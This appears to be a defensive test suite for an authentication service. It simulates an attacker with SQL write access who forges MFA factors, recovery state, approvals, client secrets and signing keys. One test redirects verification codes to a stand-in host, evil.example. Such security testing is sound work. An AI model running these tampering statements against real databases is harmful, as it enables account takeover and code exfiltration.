// T-47. The attacker can run SQL as the service's own role, through an injection or a stolen login, and has not the key ring. They add,
// copy and change rows, and want a factor of the victim's, a client of the tenant's or an assertion.
import pg from 'pg';
import { BINDINGS, type BindingName } from '../../src/platform/keys/bindings.js';
import { fromTypeId } from '../../src/platform/crypto/type-id.js';
import { call, tokenOf, type EnrolledUser } from '../support/api.js';
import { equipTenants, KINDS, opening, type Prover } from '../support/provers.js';
import { listed } from '../support/recoveries.js';
import { ownerOf, type Owner } from '../support/recovery.js';
import type { Credentials } from '../support/service.js';
import { challengeDevice, deviceOf, type SoftwareDevice } from '../support/software-device.js';
import { MINUTE, SECOND, Stage } from '../support/stage.js';

const ROLE = 'countersign_service';

describe('a writer in the database', () => {
  let stage: Stage;
  let writer: pg.Client;
  let victim: EnrolledUser;
  let mallory: EnrolledUser;
  let owner: Owner;
  let device: SoftwareDevice;
  let passkey: Prover;
  let other: Credentials;
  /** Of a tenant of its own: that of the others must not be seen to demand bound tokens, not for a second. */
  let another: Credentials & { tenantId: string };

  beforeAll(async () => {
    stage = await Stage.open(1);
    await equipTenants(stage);
    writer = new pg.Client({ connectionString: stage.service.databaseUrl, options: `-c role=${ROLE}` });
    await writer.connect();
    victim = await stage.user('victim');
    mallory = await stage.user('mallory');
    owner = await ownerOf(stage, 'owner');
    device = await deviceOf(stage, 'holder');
    await stage.later(11 * MINUTE);
    const webauthn = KINDS.find(({ type }) => type === 'webauthn');
    if (webauthn === undefined) throw new Error('no passkeys');
    passkey = await webauthn.enrol(stage, 'keyed');
    another = await stage.service.tenant('verify');
    other = await stage.service.client(stage.client.tenantId, 'verify');
  }, 60_000);
  afterAll(async () => {
    await writer.end();
    await stage.stop();
  });

  const sql = async (text: string, values: unknown[] = []) =>
    (await writer.query<pg.QueryResultRow>(text, values)).rows;
  const idOf = (typeId: string) => fromTypeId(typeId.slice(0, 3) as 'fac', typeId) ?? '';

  /** The status of a proof that is right. */
  const verified = async (user: EnrolledUser) => {
    await stage.later(30 * SECOND);
    return (await stage.verify(user.userId, stage.right(user))).status;
  };
  const token = (client: Credentials) =>
    tokenOf(stage.service.url, client).then(
      () => 200,
      (error: unknown) => Number(/no token: (\d+)/.exec(String(error))?.[1]),
    );
  const listened = async () => (await device.call({ path: '/v1/device/challenges' })).status;
  const signed = async () => {
    const challenge = await opening(stage, { userId: 'keyed', type: 'webauthn' });
    return (await stage.post(`/v1/challenges/${challenge.id}/answer`, passkey.prove(challenge))).status;
  };
  let codes = 1;
  const recovered = async () => {
    await stage.later(MINUTE);
    return (await stage.verify('owner', owner.set.codes[(codes += 1)] ?? '')).status;
  };

  interface Probe {
    readonly name: BindingName;
    /** Which row is changed. */
    readonly row: () => string;
    readonly works: () => Promise<number>;
    /** Facts that keep the row from being found at all, or that the database itself keeps. */
    readonly except?: readonly string[];
  }

  const PROBES: readonly Probe[] = [
    {
      name: 'factors',
      row: () => `id = '${idOf(victim.factorId)}'`,
      works: () => verified(victim),
      except: ['tenant_id', 'id'],
    },
    {
      name: 'devices',
      row: () => `factor_id = '${idOf(device.factorId)}'`,
      works: listened,
      except: ['tenant_id', 'factor_id'],
    },
    {
      name: 'webauthn_credentials',
      row: () => `factor_id = '${idOf(passkey.factorId)}'`,
      works: signed,
      except: ['tenant_id', 'factor_id'],
    },
    {
      name: 'recovery_codes',
      row: () => `user_id = 'owner'`,
      works: recovered,
      except: ['tenant_id', 'id', 'selector', 'factor_id'],
    },
    {
      name: 'clients',
      row: () => `id = '${fromTypeId('cli', other.clientId) ?? ''}'`,
      works: () => token(other),
      except: ['tenant_id', 'id'],
    },
    {
      name: 'client_secrets',
      row: () => `client_id = '${fromTypeId('cli', other.clientId) ?? ''}'`,
      works: () => token(other),
      except: ['tenant_id', 'client_id', 'slot'],
    },
    {
      name: 'tenants',
      row: () => `id = '${fromTypeId('ten', another.tenantId) ?? ''}'`,
      works: () => token(another),
      except: ['id'],
    },
  ];

  const isSentTo = async () => {
    const proof = await stage.proof(victim, 'factors.add');
    const path = '/v1/users/victim/phones';
    const headers = { 'step-up': proof };
    const body = { phoneNumber: '+12015550123' };
    return (await call(stage.service.url, { path, token: stage.token, headers, body })).status;
  };

  it('sends no code to an address of theirs', async () => {
    expect(await isSentTo()).toBe(202);
    await sql(
      `UPDATE phone_settings SET via = 'webhook', webhook_url = 'https://evil.example/', webhook_secret = '\\x00'`,
    );
    expect(await isSentTo()).toBe(409);
    await stage.service.sql(`UPDATE phone_settings SET via = 'outbox', webhook_url = NULL, webhook_secret = NULL`);
    expect(await isSentTo()).toBe(202);
  });

  /** Another value of the same type. */
  function changed(column: string, value: unknown): string {
    if (column === 'user_id') return `'mallory'`;
    if (column === 'type') return `'device'`;
    if (column === 'status' && value === 'active') return `'suspended'`;
    if (value === null)
      return column.endsWith('_at') ? `'2020-01-01'` : /^(granted|replaces)/.test(column) ? 'gen_random_uuid()' : `'x'`;
    if (value instanceof Date) return `${column} - interval '1 hour'`;
    if (Buffer.isBuffer(value)) return `set_byte(${column}, 3, get_byte(${column}, 3) # 1)`;
    if (Array.isArray(value)) return `${column} || '{tenant:admin}'`;
    if (typeof value === 'boolean') return `NOT ${column}`;
    if (typeof value === 'number') return `${column} + 1`;
    if (typeof value === 'object') return `${column} || '{"x":"AAAA"}'`;
    return `${column} || 'x'`;
  }

  it.each(PROBES.map((probe) => [probe.name, probe] as const))(
    'changes no fact of %s that a proof or a token then rests on',
    async (name, { row, works, except = [] }) => {
      const { table, facts, key } = BINDINGS[name];
      expect(await works()).toBe(200);
      await stage.service.sql('DROP TABLE IF EXISTS kept');
      await stage.service.sql(`CREATE TABLE kept AS SELECT * FROM ${table} WHERE ${row()}`);
      const tried: string[] = [];
      const written: string[] = [];
      for (const fact of facts.filter((each) => !except.includes(each))) {
        const where = row();
        const [held] = await stage.service.sql(`SELECT ${fact} AS value FROM ${table} WHERE ${where}`);
        // As the owner, who may more than the service's role. What the schema refuses needs no MAC.
        const text = `UPDATE ${table} SET ${fact} = ${changed(fact, held?.['value'])} WHERE ${where}`;
        const isWritten = await stage.service.sql(text).then(
          () => true,
          (error: unknown) => !String(error).includes('violates check constraint'),
        );
        if (!isWritten) continue;
        if ((await works()) === 200) tried.push(fact);
        const same = Object.keys(key).map((each) => `held.${each} = kept.${each}`);
        await stage.service.sql(
          `UPDATE ${table} AS held SET ${fact} = kept.${fact} FROM kept WHERE ${same.join(' AND ')}`,
        );
        written.push(fact);
      }
      expect(await works()).toBe(200);
      expect(tried).toEqual([]);
      expect(written.length).toBeGreaterThan(0);
    },
    60_000,
  );

  it('gives a victim no device, by copying one of their own with its MAC', async () => {
    const mine = await deviceOf(stage, 'mallory-2');
    await stage.later(11 * MINUTE);
    expect((await mine.call({ path: '/v1/device/challenges' })).status).toBe(200);
    await sql(`UPDATE factors SET user_id = 'victim' WHERE id = $1`, [idOf(mine.factorId)]);
    await sql(`UPDATE users SET claims = claims || jsonb_build_object($1::text, 0) WHERE user_id = 'victim'`, [
      idOf(mine.factorId),
    ]);
    expect((await mine.call({ path: '/v1/device/challenges' })).status).toBe(401);
    const told = `SELECT target_id FROM audit_events WHERE action = 'row.untrusted' AND target_id = $1`;
    let event = await sql(told, [idOf(mine.factorId)]);
    for (let looks = 0; looks < 100 && event.length === 0; looks += 1) {
      await new Promise((done) => setTimeout(done, 20));
      event = await sql(told, [idOf(mine.factorId)]);
    }
    expect(event).toHaveLength(1);
    const alerts = await sql(`SELECT kind FROM alerts WHERE kind = 'rows_untrusted'`);
    expect(alerts.length).toBeGreaterThan(0);
  });

  it('makes no authenticator of their own count for the victim, new, copied or pending', async () => {
    const copy = `
      INSERT INTO factors SELECT (jsonb_populate_record(held, jsonb_build_object('id', gen_random_uuid(), 'user_id', 'victim'))).*
      FROM factors AS held WHERE id = $1 RETURNING id`;
    const [made] = await sql(copy, [idOf(mallory.factorId)]);
    await sql(`UPDATE users SET claims = claims || jsonb_build_object($1::text, 0) WHERE user_id = 'victim'`, [
      made?.['id'],
    ]);
    await stage.later(30 * SECOND);
    expect((await stage.verify('victim', stage.right(mallory))).status).toBe(422);
    const pending = await stage.open('fresh');
    await sql(`UPDATE factors SET status = 'active', expires_at = NULL, activated_at = created_at WHERE id = $1`, [
      idOf(pending.id),
    ]);
    await sql(`UPDATE users SET claims = jsonb_build_object($1::text, 0) WHERE user_id = 'fresh'`, [idOf(pending.id)]);
    expect((await stage.verify('fresh', stage.right(pending))).status).toBe(422);
    expect(await verified(victim)).toBe(200);
  });

  it('opens no enrolment by making the victim look as if they were never enrolled', async () => {
    await sql(`UPDATE users SET enrolled_at = NULL WHERE user_id = 'victim'`);
    expect((await stage.post('/v1/users/victim/factors/totp', {})).status).toBe(403);
    expect((await stage.factors('victim')).mfaRequired).toBe(true);
    await stage.service.sql(
      `UPDATE users SET enrolled_at = (SELECT min(activated_at) FROM factors WHERE factors.user_id = users.user_id) WHERE user_id = 'victim'`,
    );
  });

  it('gets no ticket of a recovery that they wrote', async () => {
    const now = new Date(stage.nowMs);
    const recovery = {
      id: '01900000-0000-7000-8000-000000000001',
      by: 'recovery_code',
      client: fromTypeId('cli', stage.client.clientId),
      stage: 'delayed',
      startedAt: now.toISOString(),
      opensAt: now.toISOString(),
      endsAt: new Date(stage.nowMs + 60 * MINUTE).toISOString(),
      ticket: null,
    };
    await sql(`UPDATE users SET recovery = $1 WHERE user_id = 'victim'`, [JSON.stringify(recovery)]);
    expect(await listed(stage, 'victim')).toEqual([]);
  });

  it('gets no assertion of an approval that they wrote', async () => {
    const { id } = await challengeDevice(stage, 'holder', { action: 'factors.add' });
    await sql(`UPDATE challenges SET status = 'approved', decided_by = $1, decided_at = $2 WHERE id = $3`, [
      idOf(device.factorId),
      new Date(stage.nowMs),
      fromTypeId('chl', id),
    ]);
    const shown = await call(stage.service.url, { path: `/v1/challenges/${id}`, token: stage.token });
    expect(shown.json()).toMatchObject({ status: 'denied' });
    expect(shown.text).not.toContain('assertion');
  });

  it('adds no secret to a client, and no key to those that sign tokens', async () => {
    await sql(
      `INSERT INTO client_secrets (tenant_id, client_id, slot, secret_hash, created_at, row_mac)
       SELECT held.tenant_id, $1, 2, mine.secret_hash, mine.created_at, mine.row_mac FROM client_secrets AS mine, clients AS held
       WHERE mine.client_id = $2 AND held.id = $1`,
      [fromTypeId('cli', stage.client.clientId), fromTypeId('cli', other.clientId)],
    );
    expect(await token({ clientId: stage.client.clientId, clientSecret: other.clientSecret })).toBe(401);
    await sql(
      `INSERT INTO signing_keys SELECT (jsonb_populate_record(held, '{"kid":"forged"}')).* FROM signing_keys AS held`,
    );
    const { url } = await stage.service.addInstance();
    const { keys } = (await call(url, { path: '/.well-known/jwks.json' })).json() as { keys: { kid: string }[] };
    expect(keys.map(({ kid }) => kid)).not.toContain('forged');
    expect(keys).toHaveLength(1);
    await stage.service.stopLast();
  });

  it('cannot have their rows adopted: what was adopted is so for good', async () => {
    for (const text of ["DELETE FROM key_checks WHERE name LIKE 'bound %'", "UPDATE key_checks SET value = '\\x00'"])
      await expect(sql(text)).rejects.toThrow('permission denied');
    await sql(`UPDATE factors SET row_mac = NULL WHERE id = $1`, [idOf(mallory.factorId)]);
    expect(await verified(mallory)).toBe(422);
    expect(await stage.service.operate('keys', 'adopt')).toEqual({ bound: 0 });
    expect(await verified(mallory)).toBe(422);
  });

  it('is not there yet on a database of an older release, which is served, and bound once by a command', async () => {
    const tables = Object.values(BINDINGS).map(({ table, mac }) => `UPDATE ${table} SET ${mac} = NULL`);
    for (const text of [...tables, "DELETE FROM key_checks WHERE name LIKE 'bound %'"]) await stage.service.sql(text);
    const upgraded = await stage.service.addInstance();
    stage.service.instances.reverse();
    await stage.at(stage.nowMs);
    expect(upgraded.output()).toContain('run `keys adopt`');
    const owned = await stage.user('after');
    expect([await verified(mallory), await verified(owned)]).toEqual([200, 200]);
    const { bound } = await stage.service.operate<{ bound: number }>('keys', 'adopt');
    expect(bound).toBeGreaterThan(4_096);
    expect([await verified(mallory), await verified(owned)]).toEqual([200, 200]);
    await sql(`UPDATE factors SET row_mac = NULL WHERE id = $1`, [idOf(owned.factorId)]);
    expect(await verified(owned)).toBe(422);
  }, 60_000);
});
